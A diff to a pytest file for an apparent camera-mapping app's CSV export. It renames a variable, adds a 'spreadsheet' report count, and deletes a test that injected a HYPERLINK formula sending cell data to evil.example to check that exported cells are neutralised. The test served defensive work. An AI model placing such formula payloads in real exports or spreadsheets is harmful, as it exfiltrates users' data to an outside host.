@@ -74,7 +74,7 @@ def test_the_csv_has_a_header_one_row_per_observation_and_osm_tag_columns(client
 def test_every_csv_column_has_a_name_of_its_own(client, group, logged, options):
     """Five OSM keys are also field names (direction, operator, …): csvkit and QGIS renamed
     one of each pair, and DictReader kept the tag, so a camera's direction read ''."""
-    answer, data = download(client, group, "export.csv" + options)
+    _, data = download(client, group, "export.csv" + options)
     header = next(csv.reader(io.StringIO(data.decode("utf-8"))))
     assert len(header) == len(set(header))
     assert {"direction", "osm:direction", "operator", "osm:operator"} <= set(header)
@@ -105,34 +105,6 @@ def test_the_commands_write_the_same_files(app, group, logged, tmp_path, kind):
     assert result.exit_code == 0, result.output
     assert "2 observations" in result.output
     assert "Ville & Co" in target.read_text(encoding="utf-8")
-
-
-@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
-def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised(
-    client, group, add_observation, start
-):
-    from server.auth.models import Member
-
-    walker = db.session.query(Member).filter_by(group_id=group.id, pseudonym="mouette").one()
-    walker.pseudonym = f"{start}evil"
-    attack = f'{start}HYPERLINK("http://evil.example/?"&A1,"open")'
-    add_observation(
-        group, -1.5536, 47.2184, operator=attack, note=attack, model=attack,
-        created_by_id=walker.id,
-    )  # fmt: skip
-
-    _, data = download(client, group, "export.csv", private=True)
-
-    header, row = list(csv.reader(io.StringIO(data.decode(), newline="")))
-    cells = dict(zip(header, row, strict=False))
-    attacks = [cell for cell in row if "HYPERLINK" in cell]
-    assert len(attacks) >= 4  # operator, model, note and their OSM tag columns
-    assert not [cell for cell in attacks if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
-    # A text is written in the engine's normal form, leading blanks off: "\t=..." and
-    # "\r=..." lose their start (sync/fields.py); the others keep it, behind an apostrophe.
-    assert cells["note"] == (attack.strip() if start.isspace() else "'" + attack)
-    assert cells["walker"] == f"'{start}evil"
-    assert cells["lon"] == "-1.5536000"  # numbers stay numbers
 
 
 @pytest.fixture
@@ -205,7 +177,9 @@ def test_the_report_downloads_the_file_again_with_its_options(
         f"/api/v1/exports/{answer.headers['X-Camwalk-Export-Id']}",
         headers=group.headers("organiser"),
     ).get_json()
-    assert report["counts"] == {"rows": 1, "private": False, "signage": True, "approved": True}
+    assert report["counts"] == {
+        "rows": 1, "private": False, "signage": True, "approved": True, "spreadsheet": False,
+    }  # fmt: skip
     with client.get(report["download_url"], headers=group.headers("organiser")) as again:
         assert again.status_code == 200
         rows = list(csv.DictReader(io.StringIO(again.data.decode(), newline="")))
